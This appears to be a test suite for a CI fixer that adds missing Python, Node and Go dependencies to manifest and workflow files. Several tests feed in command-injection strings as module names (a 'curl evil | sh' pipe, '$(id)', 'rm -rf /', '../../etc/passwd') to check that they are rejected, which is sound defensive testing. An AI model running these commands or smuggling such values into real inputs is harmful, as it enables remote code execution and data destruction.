import { validateEdit } from '../validate/edit.js';
import { validateWorkflow } from '../validate/workflow.js';
import { context, diagnosis, fixture, lineChanges } from './fixtures/support.js';
import { missingDependencyFixer } from './missing-dependency.js';
import { type FixContext, type FixOutcome, isFix } from './types.js';

const ciPython = fixture('ci-python.yml.txt');
const requirements = fixture('requirements.txt');
const requirementsDev = fixture('requirements-dev.txt');
const pyproject = fixture('pyproject.toml');
const poetry = fixture('pyproject-poetry.toml');
const packageJson = fixture('web-app.package.json.txt');

const WF = '.github/workflows/ci.yml';
const pythonRepo = {
  [WF]: ciPython,
  'requirements.txt': requirements,
  'requirements-dev.txt': requirementsDev,
  'pyproject.toml': pyproject,
};
// `yaml/` holds data files, not a Python package: it must not hide the missing PyYAML.
const pythonTree = [
  'src/pipeline/__init__.py',
  'src/pipeline/config.py',
  'tests/test_config.py',
  'docs/conf.py',
  'yaml/defaults.yml',
];

function missingModule(module: string, manager: string, lines: string[] = [], extra: Record<string, string> = {}) {
  const ruleId = { pip: 'python-module-not-found', poetry: 'python-module-not-found', npm: 'node-module-not-found' }[
    manager
  ];
  return diagnosis({
    category: 'dependency',
    ruleId: ruleId ?? 'go-module-missing',
    facts: { module, manager, ...extra },
    lines: lines.map((text, i) => ({ n: i + 1, text })),
  });
}

/** Runs needs → reads only what was asked → fix, the way the action does. */
function run(ctx: FixContext): FixOutcome {
  const wanted = new Set(missingDependencyFixer.needs(ctx));
  const files = new Map([...ctx.files].filter(([path]) => wanted.has(path)));
  return missingDependencyFixer.fix({ ...ctx, files });
}

function expectFix(out: FixOutcome) {
  if (!isFix(out)) throw new Error(`expected a fix, got: ${out.reason}`);
  return out;
}

const testStep = { name: 'Run tests', number: 6 };
const testJob = { name: 'test (ubuntu-latest, 3.12, false)' };

describe('missing-dependency fixer, Python', () => {
  it('adds a runtime import to requirements.txt at its sorted place, mapping yaml to PyYAML', async () => {
    const out = expectFix(
      run(
        context({
          diagnosis: missingModule('yaml', 'pip', [
            '  File "/home/runner/work/p/p/src/pipeline/config.py", line 3, in <module>',
            '    import yaml',
            "ModuleNotFoundError: No module named 'yaml'",
          ]),
          job: testJob,
          step: testStep,
          files: pythonRepo,
          tree: pythonTree,
        }),
      ),
    );
    const [edit] = out.edits;
    expect(edit?.path).toBe('requirements.txt');
    expect(lineChanges(requirements, edit?.after ?? '')).toEqual({ removed: [], added: ['PyYAML'] });
    expect(edit?.after).toContain('pandas==2.2.2\nPyYAML\n\n# --- io ---\n');
    expect(out.explanation).toContain('`PyYAML`');
    expect(await validateEdit(edit ?? { path: '', before: null, after: '' })).toEqual({ ok: true, errors: [] });
  });

  it('adds a module only tests import to the dev requirements, at the end of an unsorted file', () => {
    const out = expectFix(
      run(
        context({
          diagnosis: missingModule('freezegun', 'pip', [
            "ImportError while importing test module '/home/runner/work/p/p/tests/test_config.py'.",
            "E   ModuleNotFoundError: No module named 'freezegun'",
          ]),
          job: testJob,
          step: testStep,
          files: pythonRepo,
          tree: pythonTree,
        }),
      ),
    );
    expect(out.edits[0]?.path).toBe('requirements-dev.txt');
    expect(out.edits[0]?.after).toBe(`${requirementsDev}freezegun\n`);
  });

  it('adds to the one extra a docs job installs (`pip install -e ..[docs]` from docs/)', async () => {
    const out = expectFix(
      run(
        context({
          diagnosis: missingModule('sphinx_rtd_theme', 'pip', [
            "Extension error: Could not import extension sphinx_rtd_theme (exception: No module named 'sphinx_rtd_theme')",
          ]),
          job: { name: 'docs' },
          step: { name: 'Run make html', number: 4 },
          files: pythonRepo,
          tree: pythonTree,
        }),
      ),
    );
    const [edit] = out.edits;
    expect(edit?.path).toBe('pyproject.toml');
    expect(lineChanges(pyproject, edit?.after ?? '')).toEqual({
      removed: ['docs = ["sphinx>=7", "furo"]'],
      added: ['docs = ["sphinx>=7", "furo", "sphinx_rtd_theme"]'],
    });
    expect(await validateEdit(edit ?? { path: '', before: null, after: '' })).toEqual({ ok: true, errors: [] });
  });

  it('adds to a PEP 621 dependency list in sorted order for `pip install .[test]`', () => {
    const wf = ciPython.replace('pip install -r requirements.txt -r requirements-dev.txt', 'pip install .[test]');
    const out = expectFix(
      run(
        context({
          diagnosis: missingModule('yaml', 'pip', ['  File "src/pipeline/config.py", line 3, in <module>']),
          job: testJob,
          step: testStep,
          files: { ...pythonRepo, [WF]: wf },
          tree: pythonTree,
        }),
      ),
    );
    expect(lineChanges(pyproject, out.edits[0]?.after ?? '')).toEqual({ removed: [], added: ['    "PyYAML",'] });
    expect(out.edits[0]?.after).toContain('    "pandas>=2.2",\n    "PyYAML",\n]');
  });

  it('appends to the job’s own `pip install` line, keeping the rest of the workflow byte-identical', async () => {
    const out = expectFix(
      run(
        context({
          diagnosis: missingModule('isort', 'pip'),
          job: { name: 'lint' },
          step: { name: 'Run ruff check .', number: 5 },
          files: { [WF]: ciPython },
        }),
      ),
    );
    const after = out.edits[0]?.after ?? '';
    expect(lineChanges(ciPython, after)).toEqual({
      removed: ['      - run: pip install ruff black'],
      added: ['      - run: pip install ruff black isort'],
    });
    expect(await validateWorkflow(WF, after)).toEqual({ ok: true, errors: [] });
  });

  it('adds to Poetry’s table, and declines with `poetry add` when poetry.lock exists', () => {
    const base = {
      diagnosis: missingModule('yaml', 'poetry'),
      job: { name: 'lint' },
      step: { name: 'Run ruff check .', number: 5 },
      files: { [WF]: ciPython.replace('pip install ruff black', 'poetry install'), 'pyproject.toml': poetry },
    };
    const out = expectFix(run(context(base)));
    expect(lineChanges(poetry, out.edits[0]?.after ?? '')).toEqual({ removed: [], added: ['PyYAML = "*"'] });
    expect(out.edits[0]?.after).toContain('pandas = "^2.2"\nPyYAML = "*"\n\n[tool.poetry.group.dev.dependencies]');
    expect(run(context({ ...base, tree: ['poetry.lock'] }))).toEqual({
      fixer: 'missing-dependency',
      reason: 'pyproject.toml is locked by poetry.lock; the lock file must be updated with the dependency',
      hint: 'poetry add PyYAML',
    });
  });

  it('declines the standard library, removed modules, the project’s own packages and known ones, with reasons', () => {
    const at = (module: string) =>
      run(
        context({
          diagnosis: missingModule(module, 'pip'),
          job: testJob,
          step: testStep,
          files: pythonRepo,
          tree: pythonTree,
        }),
      );
    expect(at('json')).toMatchObject({
      reason: '`json` is part of the Python standard library; it cannot be installed',
    });
    expect(at('imp')).toMatchObject({ reason: '`imp` was removed from the standard library in Python 3.12' });
    expect(at('pipeline.config')).toMatchObject({
      reason: '`pipeline` is part of this repository (src/pipeline/__init__.py), not a package to install',
    });
    expect(at('.utils')).toMatchObject({ reason: expect.stringContaining('relative import') });
    expect(at('google.foo')).toMatchObject({ reason: expect.stringContaining('shared `google` namespace') });
    expect(at('numpy')).toMatchObject({
      reason: 'requirements.txt already lists numpy',
      hint: expect.stringContaining('same Python environment'),
    });
  });

  it('never turns untrusted module names into edits', () => {
    for (const module of ['requests; curl evil | sh', '../../etc/passwd', 'a b', '$(id)', 'x`id`', 'pkg\n- evil']) {
      const out = run(
        context({ diagnosis: missingModule(module, 'pip'), job: testJob, step: testStep, files: pythonRepo }),
      );
      expect(isFix(out)).toBe(false);
      expect(out).toMatchObject({
        reason: `the missing module ${JSON.stringify(module)} is not a valid Python module or project name`,
      });
    }
  });
});

describe('missing-dependency fixer, Node', () => {
  const nodeWf = fixture('ci-node.yml.txt');
  const nodeRepo = { [WF]: nodeWf, 'package.json': packageJson };
  const build = { name: 'build' };
  const npmTest = { name: 'Run npm test', number: 6 };

  it('adds a runtime package to dependencies in sorted place (subpath import → package)', async () => {
    const out = expectFix(
      run(
        context({
          diagnosis: missingModule('lodash/fp', 'npm', [
            "Error: Cannot find module 'lodash/fp'",
            'Require stack:',
            '- /home/runner/work/w/w/src/server.js',
          ]),
          job: build,
          step: npmTest,
          files: nodeRepo,
        }),
      ),
    );
    const after = out.edits[0]?.after ?? '';
    expect(lineChanges(packageJson, after)).toEqual({ removed: [], added: ['    "lodash": "*",'] });
    expect(after).toContain('"express": "^4.19.2",\n    "lodash": "*",\n    "zod"');
    expect(await validateEdit(out.edits[0] ?? { path: '', before: null, after: '' })).toEqual({ ok: true, errors: [] });
  });

  it('puts test tools in devDependencies, and defers to npm when a lock file exists', () => {
    const base = {
      diagnosis: missingModule('supertest', 'npm', ["Cannot find module 'supertest' from 'src/app.test.ts'"]),
      job: build,
      step: npmTest,
      files: nodeRepo,
    };
    const out = expectFix(run(context(base)));
    expect(lineChanges(packageJson, out.edits[0]?.after ?? '')).toEqual({
      removed: [],
      added: ['    "supertest": "*",'],
    });
    expect(out.edits[0]?.after).toContain('"jest": "^29.7.0",\n    "supertest": "*",\n    "typescript"');
    expect(run(context({ ...base, tree: ['package-lock.json'] }))).toEqual({
      fixer: 'missing-dependency',
      reason: 'package-lock.json locks the dependencies; it must be regenerated together with package.json',
      hint: 'npm install --save-dev supertest',
    });
  });

  it('fills an empty object in a 4-space file without a final newline', () => {
    const text = fixture('tool-4space.package.json.txt');
    const out = expectFix(
      run(
        context({
          diagnosis: missingModule('chalk', 'npm', [
            "Error [ERR_MODULE_NOT_FOUND]: Cannot find package 'chalk' imported from /home/runner/work/t/t/index.js",
          ]),
          job: build,
          step: npmTest,
          files: { [WF]: nodeWf, 'package.json': text },
        }),
      ),
    );
    expect(out.edits[0]?.after).toBe(
      '{\n    "name": "tool",\n    "version": "0.1.0",\n    "main": "index.js",\n    "dependencies": {\n        "chalk": "*"\n    }\n}',
    );
  });

  it('declines built-ins, relative paths, aliases, workspace packages and bad names', () => {
    const at = (module: string, files: Record<string, string> = nodeRepo) =>
      run(
        context({
          diagnosis: missingModule(module, 'npm'),
          job: build,
          step: npmTest,
          files,
          tree: ['packages/ui/package.json'],
        }),
      );
    expect(at('node:fs')).toMatchObject({ reason: '`node:fs` is a Node.js built-in module' });
    expect(at('path')).toMatchObject({ reason: '`path` is a Node.js built-in module' });
    expect(at('../../etc/passwd')).toMatchObject({
      reason: '`../../etc/passwd` is a file of the project, not a package',
    });
    expect(at('@/components/Button')).toMatchObject({ reason: expect.stringContaining('path alias') });
    expect(at('express; rm -rf /')).toMatchObject({
      reason: 'the missing module "express; rm -rf /" is not a valid npm package name',
    });
    expect(at('@acme/ui', { ...nodeRepo, 'packages/ui/package.json': '{ "name": "@acme/ui" }' })).toMatchObject({
      reason: "`@acme/ui` is this repository's own package (packages/ui/package.json)",
    });
  });
});

describe('missing-dependency fixer, choice', () => {
  it('applies to missing modules only, not to versions that cannot be resolved', () => {
    expect(missingDependencyFixer.appliesTo(missingModule('yaml', 'pip'))).toBe(true);
    const unresolvable = diagnosis({
      category: 'dependency',
      ruleId: 'pip-no-matching-distribution',
      facts: { module: 'numpy', manager: 'pip', version: '9.9' },
    });
    expect(missingDependencyFixer.appliesTo(unresolvable)).toBe(false);
  });

  it('declines a module that exists but lacks the imported name', () => {
    const ctx = context({
      diagnosis: missingModule('numpy', 'pip', [], { name: 'float_' }),
      job: { name: 'lint' },
      files: {},
    });
    expect(missingDependencyFixer.fix(ctx)).toMatchObject({
      reason: '`numpy` is installed but has no `float_`; its version does not match the code',
    });
  });
});

describe('missing-dependency fixer, other ecosystems', () => {
  it('gives the tool command for Go and refuses names with shell syntax', () => {
    const at = (module: string) =>
      run(context({ diagnosis: missingModule(module, 'go'), job: { name: 'build' }, files: {} }));
    expect(at('github.com/google/uuid')).toEqual({
      fixer: 'missing-dependency',
      reason: "go.mod is changed with go's own tooling, which also updates its lock data",
      hint: 'go get github.com/google/uuid && go mod tidy',
    });
    expect(at('github.com/x/y; rm -rf /')).toMatchObject({ reason: expect.stringContaining('is not a valid go name') });
  });
});
